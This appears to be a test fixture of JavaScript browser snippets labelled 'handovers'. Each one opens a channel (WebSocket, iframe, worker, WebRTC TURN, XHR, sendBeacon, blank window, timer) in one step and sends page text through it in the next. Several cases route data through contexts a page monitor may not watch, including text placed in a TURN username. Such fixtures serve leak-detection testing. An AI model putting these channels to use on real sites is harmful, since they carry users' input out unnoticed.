// 交接 handovers: a WebSocket opened in a handover [handover]
window.s = new WebSocket(socket + '/x');
---
s.send(text)

// 交接 handovers: a WebSocket of an empty frame, opened in a handover [handover]
const inner = document.body.appendChild(document.createElement('iframe')).contentWindow; setTimeout(() => { window.s = new inner.WebSocket(socket + '/x'); }, 600);
---
s.send(text)

// 交接 handovers: a WebSocket of a worker, opened in a handover [handover]
const source = `const s = new WebSocket('${socket}/x'); onmessage = e => s.send(e.data)`; window.w = new Worker(URL.createObjectURL(new Blob([source])));
---
w.postMessage(text)

// 交接 handovers: a WebSocket of a shared worker, opened in a handover [handover]
const source = `onconnect = e => { const [port] = e.ports, s = new WebSocket('${socket}/x'); port.onmessage = e => s.send(e.data); }`; window.w = new SharedWorker(URL.createObjectURL(new Blob([source])));
---
w.port.postMessage(text)

// 交接 handovers: a WebSocket opened in a handover, before the document is written anew [handover]
window.s = new WebSocket(socket + '/x'); const f = $('form').outerHTML; document.open(); document.write(f); document.close(); $('name').value = '填了一半';
---
s.send(text)

// 交接 handovers: a call of WebRTC made in a handover [handover]
window.p = new RTCPeerConnection({iceServers: [{urls: 'turn:' + turn + '?transport=udp', username: text, credential: 'x'}], iceTransportPolicy: 'relay'});
---
p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))

// 交接 handovers: an XMLHttpRequest opened in a handover [handover]
window.x = new XMLHttpRequest(); x.open('POST', to);
---
x.send(text)

// 交接 handovers: fetch of an empty frame, taken in a handover [handover]
window.untouched = document.body.appendChild(document.createElement('iframe')).contentWindow;
---
untouched.fetch(location.origin + to, post)

// 交接 handovers: sendBeacon of an empty frame, taken in a handover [handover]
window.untouched = document.body.appendChild(document.createElement('iframe')).contentWindow;
---
untouched.navigator.sendBeacon(location.origin + to, text)

// 交接 handovers: fetch of an empty window, opened in a handover [handover]
window.w = open('about:blank');
---
w.fetch(location.origin + to, post)

// 交接 handovers: a worker started in a handover [handover]
window.w = new Worker(URL.createObjectURL(new Blob([`onmessage = e => fetch('${location.origin + to}', {method: 'POST', body: e.data})`])));
---
w.postMessage(text)

// 交接 handovers: a timer set in a handover [handover]
window.go = () => setTimeout(() => fetch(to, post), 50);
---
go()
